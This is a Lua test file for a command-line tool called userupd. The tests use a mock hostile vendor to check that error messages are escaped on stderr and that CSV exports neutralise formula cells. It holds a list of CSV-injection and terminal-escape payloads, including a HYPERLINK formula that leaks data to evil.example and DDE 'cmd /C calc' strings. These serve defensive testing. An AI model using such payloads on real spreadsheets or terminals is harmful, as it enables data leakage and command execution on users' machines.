-- The CLI facing a hostile vendor (spec/support/hostile.lua): messages with
-- terminal escapes, carriage returns and line breaks reach stderr as one
-- printable line each, and `userupd failures --format csv` neutralises
-- cells a spreadsheet would run as formulas (OWASP CSV injection).
-- bin/userupd runs in a subprocess, from the repository root, on the
-- ./userupd.so that `make` builds.
local hostile = require "support.hostile"
local csv = require "userupd.csv"

local ENV = "LUA_PATH='./lua/?.lua;./lua/?/init.lua;;' LUA_CPATH='./?.so;;'"
local CLEAN = "for v in $(env | sed -n 's/^\\(USERUPD_[A-Za-z0-9_]*\\)=.*/\\1/p');" ..
              " do unset \"$v\"; done; "

local function q(s)
  return "'" .. tostring(s):gsub("'", "'\\''") .. "'"
end

local scratch = {}
local function file(content, suffix)
  local base = os.tmpname()
  local path = base .. suffix
  local fh = assert(io.open(path, "wb"))
  fh:write(content)
  fh:close()
  scratch[#scratch + 1], scratch[#scratch + 2] = base, path
  return path
end

-- run{...} -> { rc, out, err }, with a QuestionPro key in the environment.
local function run(argv)
  local words = {}
  for i, a in ipairs(argv) do words[i] = q(a) end
  local errfile = os.tmpname()
  local cmd = ("%s%s USERUPD_QUESTIONPRO_API_KEY=hostile-key timeout 60 " ..
               "lua5.4 bin/userupd %s 2>%s </dev/null; echo \"::rc=$?\"")
    :format(CLEAN, ENV, table.concat(words, " "), errfile)
  local p = assert(io.popen(cmd))
  local out = p:read("*a")
  p:close()
  local fh = io.open(errfile, "rb")
  local err = fh:read("*a")
  fh:close()
  os.remove(errfile)
  return { rc = tonumber(out:match("::rc=(%d+)%s*$")),
           out = out:gsub("::rc=%d+%s*$", ""), err = err }
end

-- QuestionPro's error shape, the message as given (JSON-escaped here).
local function vendor_error(msg)
  local json = msg:gsub('[%c"\\]', function(c)
    return ("\\u%04x"):format(c:byte())
  end)
  return hostile.answer("400 Bad Request",
    { "Content-Type: application/json" },
    '{"response":{"error":{"id":1002,"message":"' .. json .. '"}}}')
end

local MESSAGES = {
  '=HYPERLINK("http://evil.example/?leak","click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\tTAB first",
  "\rCR first",
  "\27]0;owned\7\27[2J\27[31mred\r\nFAKE: line two\194\155",
}

local MAP = [[
return function(row) return row.id, { first_name = row.first } end]]

describe("the CLI and a hostile vendor", function()
  local srv, journal, apply
  setup(function()
    local port = tonumber(os.getenv("USERUPD_HOSTILE_PORT") or "") or
      (tonumber(os.getenv("USERUPD_SANDBOX_PORT") or "8089") + 350)
    local answers, rows = {}, { "id,first" }
    for i, m in ipairs(MESSAGES) do
      answers[i] = vendor_error(m)
      rows[#rows + 1] = (1000 + i) .. ",N" .. i
    end
    srv = hostile.start(port, answers)
    journal = file("", ".journal")
    os.remove(journal)
    apply = run{ "apply", "questionpro", "--input",
      file(table.concat(rows, "\n") .. "\n", ".csv"), "--map",
      file(MAP, ".lua"), "--base-url", srv.url, "--config",
      file("return { retries = 0, rate = 0 }", ".lua"), "--journal",
      journal, "--no-progress", "--concurrency", "1" }
  end)
  teardown(function()
    srv:stop()
    for _, p in ipairs(scratch) do os.remove(p) end
  end)

  it("prints each vendor message on stderr as one escaped line", function()
    assert.are.equal(1, apply.rc, apply.err)
    assert.are.equal(#MESSAGES, srv:requests())
    assert.is_nil(apply.err:find("[\27\7\r]"), apply.err)
    assert.is_nil(apply.err:find("\194\155", 1, true))
    assert.is_nil(apply.err:find("\nFAKE", 1, true), apply.err)
    assert.matches("\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mred\\r\\nFAKE: line " ..
                   "two\\u009b", apply.err, 1, true)
    assert.matches("\\tTAB first", apply.err, 1, true)
    local lines = 0
    for line in apply.err:gmatch("[^\n]+") do
      if line:find("^[%dT:Z-]+ %a+: line %d+: id 10%d+: rejected: ") then
        lines = lines + 1
      end
    end
    assert.are.equal(#MESSAGES, lines)
  end)

  it("neutralises formula cells in failures --format csv", function()
    local r = run{ "failures", "--journal", journal, "--format", "csv" }
    assert.are.equal(0, r.rc, r.err)
    local reader = assert(csv.open(file(r.out, ".csv")))
    local rows, seen = {}, 0
    for row, _, why in reader:rows() do rows[#rows + 1] = assert(row, why) end
    assert.are.equal(#MESSAGES, #rows)
    for _, row in ipairs(rows) do
      for _, cell in pairs(row) do
        assert.is_nil(cell:find("^[=+%-@\t\r]"), "cell " .. cell)
      end
      local msg = row.message
      for _, m in ipairs(MESSAGES) do
        if msg == "'" .. m or msg == m then seen = seen + 1 end
      end
    end
    assert.are.equal(#MESSAGES, seen)        -- the text itself is kept
    assert.matches([["'=HYPERLINK(""http://evil.example/?leak"",""click"")"]],
                   r.out, 1, true)
  end)
end)
